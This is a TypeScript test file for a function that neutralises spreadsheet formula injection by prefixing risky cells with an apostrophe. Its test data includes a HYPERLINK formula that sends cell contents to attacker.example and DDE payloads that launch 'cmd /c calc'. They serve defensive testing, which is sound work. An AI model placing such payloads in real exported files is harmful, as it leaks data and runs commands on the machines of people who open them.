import { describe, expect, it } from 'vitest'
import { formulaSafe, fromFormulaSafe } from './formula-safe.ts'

const formulas = [
  '=1+1',
  '=HYPERLINK("https://attacker.example/?x="&A1)',
  '@SUM(A1)',
  '+cmd|"/c calc"!A1',
  "+1+cmd|'/c calc'!A0",
  "-2+3+cmd|'/c calc'!A0",
  '-A1',
  '+1 555 0100&A1',
  '-1*HYPERLINK("x")',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '  =1+1',
  '＝1+1',
  '＠SUM(A1)',
  '- a note',
  '-',
]

const harmless = [
  '',
  'Ada',
  'a=b',
  'ada@example.com',
  "'quoted'",
  '+1 555 010 0199',
  '+1 (555) 010-0199',
  '+1-555-010-0199 ext. 7',
  '+1 555 010 0199 x7',
  '+49 30/123 45',
  '+49 (0)30 12345',
  '-5',
  '-12304.5',
  '-1.5e-7',
  '-12,304.50',
  '-3 %',
]

describe('cells for a spreadsheet', () => {
  it.each(formulas)('begin with an apostrophe where they would be a formula: %j', (text) => {
    expect(formulaSafe(text)).toBe(`'${text}`)
  })

  it.each(harmless)('stay as they are where they are a name, a number or a phone number: %j', (text) => {
    expect(formulaSafe(text)).toBe(text)
  })

  it.each([...formulas, ...harmless, "'=1+1", "''@x", "'", "'+1 555"])(
    'are read back as they were: %j',
    (text) => {
      expect(fromFormulaSafe(formulaSafe(text))).toBe(text)
    },
  )

  it('take no apostrophe from a text that another program wrote', () => {
    expect(fromFormulaSafe("'t Hooft")).toBe("'t Hooft")
  })

  it('are judged in no time when they are long', () => {
    const started = performance.now()
    formulaSafe(`+${'1 '.repeat(100_000)}!`)
    formulaSafe(`${' '.repeat(100_000)}x`)
    expect(performance.now() - started).toBeLessThan(1_000)
  })
})
